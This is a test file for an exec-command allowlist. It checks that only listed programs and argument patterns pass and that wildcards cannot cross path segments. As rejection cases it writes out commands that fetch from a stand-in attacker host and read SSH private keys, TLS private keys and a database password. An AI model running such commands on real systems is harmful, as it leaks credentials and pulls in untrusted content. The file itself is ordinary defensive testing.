import { describe, expect, it } from 'vitest';
import { allowedBy } from './exec-policy.js';

const POLICY = ['ls', '/app/bin/healthcheck', 'cat /etc/*', 'wget -qO- localhost:8080/*', 'printenv HOSTNAME'];

describe('exec command allowlist', () => {
  it('admits a listed program with any arguments, and only that program', () => {
    expect(allowedBy(POLICY, ['ls', '-la', '/tmp'])).toBe('ls');
    expect(allowedBy(POLICY, ['/app/bin/healthcheck'])).toBe('/app/bin/healthcheck');
    expect(allowedBy(POLICY, ['/bin/ls'])).toBeUndefined(); // another path is another program
    expect(allowedBy(POLICY, ['lsof'])).toBeUndefined();
  });

  it('matches full patterns argument by argument, with the same number of arguments', () => {
    expect(allowedBy(POLICY, ['printenv', 'HOSTNAME'])).toBe('printenv HOSTNAME');
    expect(allowedBy(POLICY, ['printenv'])).toBeUndefined();
    expect(allowedBy(POLICY, ['printenv', 'HOSTNAME', 'DB_PASSWORD'])).toBeUndefined();
    expect(allowedBy(POLICY, ['wget', '-qO-', 'localhost:8080/healthz'])).toBe('wget -qO- localhost:8080/*');
    expect(allowedBy(POLICY, ['wget', '-qO-', 'evil.example.com/x'])).toBeUndefined();
  });

  it('lets * stand for characters within one path segment, never a / or a parent directory', () => {
    expect(allowedBy(POLICY, ['cat', '/etc/os-release'])).toBe('cat /etc/*');
    expect(allowedBy(POLICY, ['cat', '/etc/ssl/private/key.pem'])).toBeUndefined();
    expect(allowedBy(POLICY, ['cat', '/etc/..'])).toBeUndefined();
    expect(allowedBy(POLICY, ['cat', '/etc/os-release', '/root/.ssh/id_rsa'])).toBeUndefined();
    // Pattern characters are literal, not regular expression syntax.
    expect(allowedBy(['cat /tmp/a.b'], ['cat', '/tmp/aXb'])).toBeUndefined();
  });
});
